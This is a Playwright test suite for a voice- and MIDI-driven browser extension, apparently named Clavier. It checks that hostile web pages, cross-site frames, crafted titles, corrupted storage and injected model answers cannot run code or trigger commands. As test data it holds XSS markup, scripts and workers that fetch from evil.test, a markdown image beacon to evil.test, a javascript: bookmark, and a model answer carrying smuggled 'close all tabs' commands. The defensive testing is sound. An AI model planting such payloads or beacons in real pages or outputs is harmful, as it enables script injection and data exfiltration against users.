import type { Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { installFakeVoice } from '../servers/fake-voice.ts'
import { type OllamaServer, startOllamaServer } from '../servers/ollama-server.ts'
import { type PageServer, startPageServer } from '../servers/page-server.ts'
import { type Clavier, launchClavier } from './harness.ts'
import { activeTab, clickKeys, outcomeAfter, say, scrollOf, submit, untilReady } from './panel-driver.ts'

const commanding = 'http://evil.test/commanding.html'
const markup = '<img src=x onerror="globalThis.ran = \'title\'">'

let pages: PageServer
let ollama: OllamaServer
let clavier: Clavier
let panel: Page
/** What the panel's own doings have met of the policy. */
const againstPolicy: string[] = []

beforeAll(async () => {
  pages = await startPageServer(3)
  ollama = await startOllamaServer()
  clavier = await launchClavier({
    pagePorts: pages.ports,
    ollamaPort: ollama.port,
    fakeMidi: true,
    fakeRecogniser: true,
    processPerTab: true,
    initScripts: [installFakeVoice],
  })
  panel = await clavier.openSidePanel()
  panel.on('console', message => {
    if (message.text().includes('Content Security Policy')) againstPolicy.push(message.text())
  })
})

afterAll(async () => {
  await clavier.close()
  await ollama.close()
  await pages.close()
})

/** The only tab shows `url`, and nothing is kept but what is given. */
async function begin(url: string, kept: Readonly<Record<string, unknown>> = {}): Promise<Page> {
  const tab = await clavier.beginAnew(panel, url, kept)
  await untilReady(panel)
  return tab
}

describe('a page cannot command', () => {
  test('its events and messages reach nothing', async () => {
    const tab = await begin(commanding)
    const before = await everything(panel)
    expect(await tab.evaluate(() => typeof globalThis.chrome?.runtime)).toBe('undefined')
    // Whoever took such an event for its own would say that it is dealt with.
    const untaken = await tab.evaluate(() => {
      const panelKey = { key: 'C', code: 'KeyC', altKey: true, shiftKey: true }
      const spoofs = [
        new KeyboardEvent('keydown', { ...panelKey, bubbles: true, cancelable: true }),
        new CustomEvent('clavier-meeting', { detail: 'mine', cancelable: true }),
      ]
      return spoofs.every(event => document.body.dispatchEvent(event) && dispatchEvent(event))
    })
    expect(untaken).toBe(true)

    await tab.evaluate(() => (globalThis as unknown as { command(): void }).command()) // in the page's script
    const frame = await tab.evaluateHandle(async () => {
      const inner = document.createElement('iframe')
      inner.src = 'http://news.test/commanding.html'
      document.body.append(inner)
      await new Promise(resolve => inner.addEventListener('load', resolve))
      return inner
    })
    const inside = await frame.asElement()?.contentFrame()
    await inside?.evaluate(() => (globalThis as unknown as { command(): void }).command()) // as above

    // Whatever had been set off would come before the answer to this.
    expect(await say(panel, 'where am i')).toContain('close all tabs')
    expect(await heardLines(panel)).toEqual(['where am i'])
    expect(await everything(panel)).toEqual(before)
    expect(tab.url()).toBe(commanding)
    expect(await scrollOf(tab)).toBe(0)
    expect(await tab.locator('clavier-hints').count()).toBe(1)
  })

  test('its element named clavier-hints stays what it was, and the numbers are drawn in another', async () => {
    const tab = await begin(commanding)
    expect(await say(panel, 'hints')).toMatch(/^\d+ numbers? shown/)
    expect(await tab.locator('clavier-hints').count()).toBe(2)
    await say(panel, 'click 1')
    await expect.poll(() => tab.url()).toBe(`${commanding}#trapped`)
    await say(panel, 'hide hints')
    const left = tab.locator('clavier-hints')
    expect(await left.evaluateAll(all => all.map(({ id, textContent }) => [id, textContent]))).toEqual([
      ['decoy', 'close all tabs'],
    ])
  })

  test('its title is shown as text wherever it appears, and runs nothing when it is told', async () => {
    const tab = await begin(commanding)
    const tabs = await openTabs(panel)
    for (const phrase of ['where am i', 'tabs', 'layout', 'name this tab', 'go to close']) {
      expect(await say(panel, phrase), phrase).not.toBe('')
    }
    expect(await clickKeys(panel, ['C3 48', 'E3 52', 'A3 57'])).toContain(markup)
    for (const view of ['Now', 'Names', 'Sequences', 'Answers', 'Help', 'Settings']) {
      await panel.getByRole('tab', { name: view, exact: true }).click()
      expect(await injected(panel), view).toEqual([])
    }
    await panel.getByRole('tab', { name: 'Names', exact: true }).click()
    expect(await panel.getByRole('tabpanel', { name: 'Names', exact: true }).textContent()).toContain(markup)
    expect(await openTabs(panel)).toEqual(tabs)
    expect(await scrollOf(tab)).toBe(0)
  })
})

describe('a number means its element', () => {
  const targets = 'http://news.test/attacks/targets.html'

  test('whatever the page makes of our element, draws itself, or puts in its place or over it', async () => {
    const tab = await begin(targets)
    expect(await say(panel, 'hints')).toContain('4 numbers shown')
    await tab.evaluate('forge()')
    expect(await tab.evaluate('painted()')).toBe('block 1 none visible')
    for (let time = 0; time < 2; time += 1) {
      expect(await tab.evaluate('tamper()')).toBe('closed')
      // What is taken out is put in again as it was, with the next look at the page.
      await tab.evaluate('swap()')
      await expect.poll(() => tab.evaluate('painted()')).toBe('block 1 none visible')
    }
    expect(await say(panel, 'click 1')).toContain('Read more')
    await expect.poll(() => tab.evaluate('did')).toEqual(['read'])
    await tab.evaluate('cover(true)')
    expect(await say(panel, 'click 1')).toContain('Read more')
    await expect.poll(() => tab.evaluate('did')).toEqual(['read', 'read'])
  })

  test('and a real press goes nowhere else: what lies over it, or comes there with the pointer, gets nothing', async () => {
    const tab = await begin(targets)
    await say(panel, 'trusted input on')
    for (const phrase of ['click help by hand', 'click inside by hand']) {
      await tab.evaluate('cover(true)')
      expect(await say(panel, phrase)).toContain('Something else lies over it')
      await tab.evaluate('cover(false)')
      await say(panel, phrase)
    }
    await tab.evaluate('coverOnArrival()')
    expect(await say(panel, 'click read more by hand')).toContain('Something else lies over it')
    await say(panel, 'trusted input off')
    expect(await tab.evaluate('did')).toEqual(['help', 'inside'])
  })
})

test('a page that breaks what it shares and changes a million times is numbered, read and gone through; it goes on, too', async () => {
  const tab = await begin('http://news.test/attacks/restless.html')
  expect(await say(panel, 'hints')).toMatch(/^\d+ numbers? shown/)
  await say(panel, 'follow focus')
  await submit(panel, 'read page')
  await tab.evaluate('change(1_000_000)')
  expect(await say(panel, 'where am i')).toContain('Restless')
  expect(await say(panel, 'find lamps are lit')).toContain('1')
  expect(await say(panel, 'click second')).toContain('Second')
  await tab.locator('#counted').getByText('1000000 changes').waitFor()
  expect(await say(panel, 'click first link')).toContain('First link')
  await expect.poll(() => tab.url()).toContain('#first')
  expect(await say(panel, 'hide hints')).toContain('hidden')
  await say(panel, 'stop following')
})

test('a frame of another site speaks for itself alone, is told nothing, and takes no click unseen', async () => {
  const tab = await begin('http://news.test/attacks/stage.html')
  const frame = tab.frameLocator('#frame').locator('body')
  await frame.getByRole('button').waitFor()
  // Those of the stage, and the frame's own; what lies unseen over the prize has none, nor has what it covers.
  expect(await say(panel, 'hints')).toContain('2 numbers shown')
  expect(await say(panel, 'click frame button')).toContain('Frame button')
  expect(await say(panel, 'click stage button')).toContain('Stage button')
  await expect.poll(() => tab.evaluate('did')).toEqual(['frame', 'stage'])
  expect(await say(panel, 'let this page listen')).toContain('news.test')
  await say(panel, 'top')
  await expect.poll(() => tab.evaluate('heard')).toEqual(['top'])
  expect(await frame.evaluate(() => (globalThis as unknown as { heard: unknown }).heard)).toEqual([]) // set by the page
})

test('addresses that are no pages of the web are opened from nowhere', async () => {
  const tab = await begin('http://news.test/attacks/addresses.html')
  const before = await openTabs(panel)
  const links = await tab.getByRole('link').allTextContents()
  expect(links).toHaveLength(10)
  for (const link of links)
    expect(await say(panel, `open ${link} in new tab`), link).toContain('no link that leads anywhere')
  await panel.evaluate(() =>
    chrome.bookmarks.create({ title: 'Crooked', url: "javascript:void(document.title='ran')" }),
  )
  expect(await say(panel, 'bookmarks crooked')).toContain('No')
  expect(await openTabs(panel)).toEqual(before)
  expect(await tab.title()).toBe('Addresses')
})

test('a title of any signs stays in its place in every view', async () => {
  const tab = await begin('http://news.test/article.html')
  const title = `\u202ebat siht esolc\u2066 ${'e\u0301\u0335'.repeat(3)}${'\u0301'.repeat(400)} 👩‍👩‍👧‍👦\u200b ${'x'.repeat(900)} דואר`
  await tab.evaluate(to => {
    document.title = to
  }, title)
  await expect.poll(async () => (await activeTab(panel)).title.length).toBeGreaterThan(900)
  for (const phrase of [
    'where am i',
    'tabs',
    'name this tab',
    'record',
    'scroll down',
    'stop recording',
    'ask what is this',
  ])
    expect(await say(panel, phrase), phrase).not.toBe('')
  for (const view of ['Now', 'Names', 'Sequences', 'Answers', 'Help', 'Settings']) {
    await panel.getByRole('tab', { name: view, exact: true }).click()
    const faults = await panel.evaluate(() => {
      const { scrollWidth, clientWidth } = document.documentElement
      const shown = document.getElementById('app')?.innerText ?? ''
      return { beyond: scrollWidth > clientWidth, piled: /\p{M}{9}/u.test(shown) }
    })
    expect(faults, view).toEqual({ beyond: false, piled: false })
  }
})

test('what gets into the panel’s own page by whatever way runs nothing, loads nothing and frames nothing', async () => {
  await begin('http://news.test/article.html')
  // With sounds, recordings, numbers, readings and answers before it.
  expect(againstPolicy).toEqual([])
  await panel.evaluate(() => {
    const refused: string[] = []
    Object.assign(globalThis, { refused })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    const far = 'http://evil.test/attacks/remote'
    const put = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
      const element = document.createElement(tag)
      try {
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        element.textContent = text
      } catch {
        // Not even set where it would run or load a script; what has become of it goes in all the same.
      }
      document.body.append(element)
      return element
    }
    put('script', {}, "globalThis.ran = 'inline'")
    put('script', { src: `${far}.js` })
    put('script', { src: `${far}.mjs`, type: 'module' })
    put('button', { onclick: "globalThis.ran = 'handler'" }).click()
    put('img', { src: `${far}.png` })
    put('iframe', { src: `${far}.html` })
    put('object', { data: `${far}.pdf` })
    put('link', { rel: 'stylesheet', href: `${far}.css` })
    put('base', { href: 'http://evil.test/' })
    const attempts = [
      () =>
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="${far}.png" onerror="globalThis.ran = 'markup'">`,
        ),
      () => new Worker(`${far}.js`),
      () => new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/attacks/remote')"]))),
    ]
    const taken = attempts.filter(attempt => {
      try {
        attempt()
        return true
      } catch {
        return false
      }
    })
    Object.assign(globalThis, { taken: taken.length })
    // Not in this call itself, which the runner lets do more than the page may.
    setTimeout(() => Reflect.construct(Function, ["globalThis.ran = 'text'"])())
  })
  // Ready-made by another document, they are no text any more: the policy refuses them by itself.
  await panel.evaluate(async () => {
    const request = new XMLHttpRequest()
    request.responseType = 'document'
    request.open('GET', 'http://news.test/attacks/parts.html')
    await new Promise(resolve => {
      request.onload = resolve
      request.send()
    })
    for (const part of request.response.querySelectorAll('button, object'))
      document.body.append(document.importNode(part, true))
    document.getElementById('handler')?.click()
  })
  // As text: the runner would put something of its own in the place of `import`.
  await panel.evaluate("void import('http://evil.test/attacks/remote.mjs').catch(() => undefined)")
  await expect
    .poll(() =>
      panel.evaluate(() => {
        const { refused } = globalThis as unknown as { refused: string[] } // set above
        return [...new Set(refused)].sort()
      }),
    )
    .toEqual([
      ...['base-uri', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for'],
      ...['script-src-attr', 'script-src-elem', 'style-src-elem'],
    ])
  expect(againstPolicy.length).toBeGreaterThan(0)
  expect(await panel.evaluate(() => 'ran' in globalThis)).toBe(false)
  expect(await panel.evaluate(() => Reflect.get(globalThis, 'taken'))).toBe(0)
  expect(pages.requests.filter(({ path }) => path.includes('remote'))).toEqual([])
})

describe('a model cannot command', () => {
  test('an answer of phrases and markup is text, and nothing of it runs', async () => {
    const tab = await begin(commanding)
    const before = await everything(panel)
    expect(await say(panel, 'ask what the harbour master answers')).toContain('Answered by')
    const answers = panel.getByRole('tabpanel', { name: 'Answers', exact: true })
    const answer = await answers.getByRole('region', { name: 'Answer', exact: true }).textContent()
    expect(answer).toContain('clavier: new tab, close all tabs')
    expect(answer).toContain('<img src=x onerror="globalThis.ran = \'answer\'">')
    expect(answer).toContain('<script>')
    expect(answer).toContain('![told](http://evil.test/attacks/beacon.png)')
    expect(await injected(panel)).toEqual([])
    expect(await panel.getByRole('link').count()).toBe(0)
    expect(pages.requests.filter(({ path }) => path.includes('beacon'))).toEqual([])

    await panel.getByRole('tab', { name: 'Now', exact: true }).click()
    expect(await heardLines(panel)).toEqual(['ask what the harbour master answers'])
    expect(await everything(panel)).toEqual(before)
    expect(await scrollOf(tab)).toBe(0)
  })
})

describe('what is kept may be broken', () => {
  const rubbish = {
    settings: 'latch off; <b>keys off</b>',
    names: { version: 7, names: [{ id: 'x', spoken: 'close all tabs' }] },
    'sequence/index': { version: 7, entries: 'many' },
    'sequence/later/head': { version: 7, id: 'later', name: 'from a later version', parts: [1, 2] },
    'sequence/later/chunk/0': { packed: 'AAAA' },
    'sequence/odd/head': [[[]]],
    'sequence/../../settings': { version: 1 },
  }

  test('settings, names and sequences that cannot be read: it starts, says so, and writes over none', async () => {
    const tab = await begin('http://news.test/article.html', rubbish)
    const outcome = panel.getByRole('status', { name: 'Outcome', exact: true })
    await outcome.getByText('cannot be read by this version').waitFor()
    for (const name of ['Keys', 'Feedback', 'Latch'])
      expect(await panel.getByRole('switch', { name, exact: true }).isChecked(), name).toBe(true)

    // It works on with the defaults, and refuses what it could not keep.
    expect(await say(panel, 'scroll down')).toContain('Scrolled')
    expect(await scrollOf(tab)).toBeGreaterThan(100)
    const latch = panel.getByRole('switch', { name: 'Latch', exact: true })
    expect(await outcomeAfter(panel, () => latch.click())).toContain('cannot be read by this version')
    expect(await latch.isChecked()).toBe(true)
    expect(await say(panel, 'name this tab organ')).toContain('cannot be read by this version')
    expect(await clickKeys(panel, ['C3 48', 'E3 52', 'G3 55'])).toContain('cannot be read by this version')
    expect(await say(panel, 'play')).toContain('Nothing is recorded')
    const { 'sequence/index': _list, ...others } = rubbish
    expect(await stored(panel)).toMatchObject(others)

    // New recordings are kept beside what cannot be read.
    await say(panel, 'record')
    await say(panel, 'scroll down')
    expect(await say(panel, 'stop recording')).toContain('1 step')
    await submit(panel, 'play')
    await outcome.getByText('to its end').waitFor()
    expect(await stored(panel)).toMatchObject(others)
  })

  test('a damaged recording is said, not played, and left as it is', async () => {
    await begin('http://news.test/article.html')
    await say(panel, 'record')
    await say(panel, 'scroll down')
    await say(panel, 'stop recording')
    await say(panel, 'save as torn')
    await say(panel, 'top')
    const broken = await panel.evaluate(async () => {
      const all = await chrome.storage.local.get(null)
      const [chunk] = Object.keys(all).filter(key => key.includes('/chunk/'))
      if (chunk === undefined) throw new Error('Nothing was kept.')
      await chrome.storage.local.set({ [chunk]: [{ kind: 'did', intent: { command: 'close-tab' } }, 7] })
      return chrome.storage.local.get(null)
    })
    const tabs = await openTabs(panel)
    await panel.reload()
    await untilReady(panel)
    expect(await say(panel, 'play torn')).toContain('“torn” is damaged')
    expect(await openTabs(panel)).toEqual(tabs)
    expect(await stored(panel)).toEqual(broken)
  })
})

function stored(panel: Page): Promise<Record<string, unknown>> {
  return panel.evaluate(() => chrome.storage.local.get(null))
}

function openTabs(panel: Page): Promise<readonly (number | undefined)[]> {
  return panel.evaluate(async () => (await chrome.tabs.query({})).map(({ id }) => id))
}

/** Tabs and all that is kept: what a command could have changed. */
async function everything(panel: Page): Promise<unknown> {
  return { tabs: await openTabs(panel), kept: await stored(panel) }
}

/** What the log says was heard. */
function heardLines(panel: Page): Promise<string[]> {
  return panel.getByRole('log', { name: 'Activity', exact: true }).locator('.heard').allTextContents()
}

/** What markup came to be, but for the two links of About. */
function injected(panel: Page): Promise<unknown[]> {
  return panel.evaluate(() => {
    const found = document.querySelectorAll(
      '#app img, #app script, #app iframe, #app a:not([href="https://github.com/nbrosowsky/tonejs-instruments"], [href="https://creativecommons.org/licenses/by/3.0/"]), [onerror]',
    )
    const { ran } = globalThis as unknown as { ran?: unknown } // set by the markup of commanding.html
    return [...[...found].map(element => element.outerHTML), ...(ran === undefined ? [] : [ran])]
  })
}
